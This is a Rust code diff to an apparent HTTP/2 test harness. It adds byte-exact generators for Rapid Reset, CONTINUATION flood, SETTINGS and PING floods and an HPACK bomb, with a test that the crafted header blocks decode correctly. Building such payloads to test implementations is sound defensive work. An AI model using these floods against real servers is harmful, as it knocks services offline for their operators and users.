@@ -4,7 +4,7 @@
 //! through `loona-hpack`; the IUT's header blocks are not decoded, only
 //! framed.
 
-use tracewright_vocab::h2::{ErrorName, Frame, FrameSpec, FrameType, UNKNOWN_TYPE_CODE};
+use tracewright_vocab::h2::{Attack, ErrorName, Frame, FrameSpec, FrameType, UNKNOWN_TYPE_CODE};
 
 /// A frame's length field is 24 bits (RFC 9113 §4.1).
 pub const MAX_WIRE_LENGTH: u64 = 1 << 24;
@@ -268,5 +268,120 @@ impl Encoder {
         out.extend((stream | r).to_be_bytes());
         out.extend(payload);
         Ok(out)
+    }
+}
+
+// ------------------------------------------------------------ attacks
+
+/// One field line of a CONTINUATION flood, 1 024 octets (RFC 7541 §6.2.2,
+/// a literal without indexing with a new name): `x-flood` and 1 012 octets
+/// of value, so that 16 of them fill a frame of 2^14 exactly and the block
+/// stays valid HPACK however far the flood goes.
+fn flood_field() -> Vec<u8> {
+    let mut f = vec![0x00, 7];
+    f.extend_from_slice(b"x-flood");
+    // 1 012 as an HPACK integer with a 7-bit prefix (RFC 7541 §5.1).
+    f.extend_from_slice(&[0x7f, 0xf5, 0x06]);
+    f.extend(std::iter::repeat_n(b'a', 1_012));
+    debug_assert_eq!(f.len(), 1_024);
+    f
+}
+
+/// The request's pseudo-header fields, written without touching the
+/// dynamic table (RFC 7541 Appendix A indices): GET, http, `/`, and the
+/// authority as a literal without indexing.
+fn bare_request() -> Vec<u8> {
+    let mut b = vec![0x82, 0x86, 0x84, 0x01, 16];
+    b.extend_from_slice(b"tracewright.test");
+    b
+}
+
+/// References to the newest dynamic table entry (index 62, RFC 7541
+/// §2.3.3) in one HPACK bomb.
+pub const BOMB_REFERENCES: usize = 16_000;
+
+/// The value of the HPACK bomb's table entry: with its name and the 32
+/// octets of overhead, 4 038 octets, which a 4 096-octet table holds
+/// (RFC 7541 §4.1).
+const BOMB_VALUE: usize = 4_000;
+
+fn frame_bytes(ty: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(9 + payload.len());
+    out.extend(&(payload.len() as u32).to_be_bytes()[1..]);
+    out.push(ty);
+    out.push(flags);
+    out.extend(stream.to_be_bytes());
+    out.extend_from_slice(payload);
+    out
+}
+
+impl Encoder {
+    /// The bytes of round `r` of attack `a` (see [`Attack`]).
+    pub fn flood_round(&mut self, a: Attack, r: u32) -> Vec<u8> {
+        const END_STREAM: u8 = 0x1;
+        const END_HEADERS: u8 = 0x4;
+        match a {
+            // The request's block touches no HPACK table, so that every
+            // round's is the same and the harness keeps nothing per round.
+            Attack::RapidReset => {
+                let stream = 2 * r + 1;
+                let mut out = frame_bytes(1, END_STREAM | END_HEADERS, stream, &bare_request());
+                out.extend(frame_bytes(3, 0, stream, &ErrorName::Cancel.code().to_be_bytes()));
+                out
+            }
+            Attack::ContinuationFlood if r == 0 => frame_bytes(1, END_STREAM, 1, &bare_request()),
+            Attack::ContinuationFlood => {
+                let field = flood_field();
+                let payload: Vec<u8> = (0..16).flat_map(|_| field.iter().copied()).collect();
+                frame_bytes(9, 0, 1, &payload)
+            }
+            Attack::SettingsFlood => frame_bytes(4, 0, 0, &[]),
+            Attack::PingFlood => self.encode(&FrameSpec::new(FrameType::Ping)),
+            Attack::HpackBomb => {
+                let mut block = bare_request();
+                if r == 0 {
+                    // A literal with incremental indexing, new name
+                    // (RFC 7541 §6.2.1): `x-bomb`, 4 000 octets.
+                    block.extend_from_slice(&[0x40, 6]);
+                    block.extend_from_slice(b"x-bomb");
+                    // 4 000 as an HPACK integer with a 7-bit prefix.
+                    block.extend_from_slice(&[0x7f, 0xa1, 0x1e]);
+                    block.extend(std::iter::repeat_n(b'b', BOMB_VALUE));
+                } else {
+                    block.extend(std::iter::repeat_n(0x80 | 62, BOMB_REFERENCES));
+                }
+                frame_bytes(1, END_STREAM | END_HEADERS, 2 * r + 1, &block)
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod flood_tests {
+    use super::*;
+
+    /// The HPACK a flood writes by hand decodes as it says: the bomb's
+    /// entry enters the table and each reference brings it back, and the
+    /// CONTINUATION flood's field lines are whole fields.
+    #[test]
+    fn flood_blocks_are_valid_hpack() {
+        let mut enc = Encoder::new(true);
+        let mut dec = loona_hpack::Decoder::new();
+        let setup = enc.flood_round(Attack::HpackBomb, 0);
+        let fields = dec.decode(&setup[9..]).unwrap();
+        assert_eq!(fields.len(), 5);
+        assert_eq!(fields[4].0, b"x-bomb");
+        assert_eq!(fields[4].1.len(), BOMB_VALUE);
+        let bomb = enc.flood_round(Attack::HpackBomb, 1);
+        assert!(bomb.len() - 9 <= 1 << 14);
+        let mut n = 0usize;
+        dec.decode_with_cb(&bomb[9..], |name, _| n += usize::from(&name[..] == b"x-bomb"))
+            .unwrap();
+        assert_eq!(n, BOMB_REFERENCES);
+        let c = enc.flood_round(Attack::ContinuationFlood, 1);
+        assert_eq!(c.len() - 9, 1 << 14);
+        let fields = dec.decode(&c[9..]).unwrap();
+        assert_eq!(fields.len(), 16);
+        assert_eq!(fields[0].1.len(), 1_012);
     }
 }
